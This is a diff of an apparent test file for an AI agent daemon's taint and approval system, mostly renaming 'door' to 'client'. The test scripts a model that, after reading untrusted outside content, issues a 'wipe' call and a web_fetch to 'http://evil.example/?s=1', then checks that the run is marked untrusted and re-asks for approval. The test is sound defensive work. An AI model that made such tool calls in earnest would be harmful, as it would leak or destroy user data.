@@ -3,7 +3,7 @@
 from collections.abc import AsyncIterator
 from pathlib import Path
 
-from daemon.app import Overrides
+from daemon.app.daemon import Overrides
 from daemon.client.protocol import LiveEvent
 from daemon.core.messages import ToolSpec
 from daemon.core.trust import OWNER, Answer, Effect, Label, Person, Role
@@ -70,19 +70,19 @@ async def test_F3_a_turn_that_waited_is_tainted_by_what_the_chat_has_read_meanwh
         model.script(calls(("wipe", {})), calls(("look_outside", {})), says("It says: be good."))
         waits = await alive.say("wipe")
         await alive.until(waits, "approval.asked")
-        await alive.house.door.send("web:test", "look outside", by=OTHER)
-        other = (await alive.house.door.list_runs("web:test"))[0].turn
+        await alive.house.client.send("web:test", "look outside", by=OTHER)
+        other = (await alive.house.client.list_runs("web:test"))[0].turn
         assert (await alive.settled(other)).label == "untrusted"
         model.script(calls(("web_fetch", {"url": "http://evil.example/?s=1"})), says("ok"))
-        question = (await alive.house.door.list_approvals(session="web:test"))[0]
-        assert await alive.house.door.answer_approval(waits, question.call_id, Answer.ONCE, OWNER)
+        question = (await alive.house.client.list_approvals(session="web:test"))[0]
+        assert await alive.house.client.answer_approval(waits, question.call_id, Answer.ONCE, OWNER)
         asked = [
             event.name
             async for event in only(
-                alive.house.door.stream_events(waits), "approval.asked", "run.completed", times=2
+                alive.house.client.stream_events(waits), "approval.asked", "run.completed", times=2
             )
         ]
-        view = await alive.house.door.get_run(waits)
+        view = await alive.house.client.get_run(waits)
         assert asked == ["approval.asked"] * 2
         assert view and (view.label, view.calls[-1].tool, view.calls[-1].decision) == (
             "untrusted",
